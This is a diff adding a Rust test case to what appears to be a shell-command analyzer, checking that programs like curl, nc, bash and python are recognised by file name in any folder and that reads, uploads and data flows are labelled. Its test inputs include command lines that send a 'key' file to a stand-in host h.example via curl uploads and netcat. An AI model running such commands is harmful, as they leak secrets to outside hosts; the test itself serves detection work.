@@ -499,3 +499,55 @@ fn what_a_program_logs_in_with_is_not_what_it_sends() {
         ),
     ]);
 }
+
+/// A program is what its file is called, wherever it lies, and may be anything besides.
+#[test]
+fn a_program_is_known_by_its_name_in_any_folder() {
+    check(&[
+        (
+            "cat key | ~/bin/curl -d @- h.example",
+            "r:key x:~/bin/curl upload>h.example key->h.example",
+        ),
+        (
+            "/root/miniconda3/bin/curl -d @$HOME/key h.example:8080",
+            "r:~/key x:/root/miniconda3/bin/curl upload>h.example ~/key->h.example",
+        ),
+        (
+            "/nix/store/abc-curl-8/bin/curl -T ~/key h.example",
+            "r:~/key x:/nix/store/abc-curl-8/bin/curl upload>h.example ~/key->h.example",
+        ),
+        (
+            "./curl -T ~/key h.example",
+            "r:~/key x:curl upload>h.example ~/key->h.example",
+        ),
+        (
+            "\"$CONDA_PREFIX/bin/curl\" -T ~/key h.example",
+            "r:~/key x:$CONDA_PREFIX/bin/curl upload>h.example ~/key->h.example ?program",
+        ),
+        (
+            "~/bin/bash -c 'cat key | nc h.example 1'",
+            "r:key x:~/bin/bash session>h.example key->h.example",
+        ),
+        (
+            ".venv/bin/python -c \"import os; os.system('nc h.example 1 < key')\"",
+            "r:key x:.venv/bin/python session>h.example key->h.example",
+        ),
+        // Nothing is lost of what is assumed of programs that nobody knows.
+        (
+            "./echo ~/key https://h.example",
+            "~r:~/key x:echo ~upload>h.example ~/key->h.example",
+        ),
+        // A builtin has no file: this one goes nowhere.
+        ("./cd /etc; cat key", "r:key x:cd"),
+        ("./run.sh -d @key", "~r:key x:run.sh"),
+        (
+            "~/bin/curl https://h.example/a",
+            "x:~/bin/curl fetch>h.example",
+        ),
+        (
+            ".venv/bin/python script.py",
+            "~r:script.py x:.venv/bin/python x:script.py",
+        ),
+        ("./node_modules/.bin/tsc -p .", "x:node_modules/.bin/tsc"),
+    ]);
+}
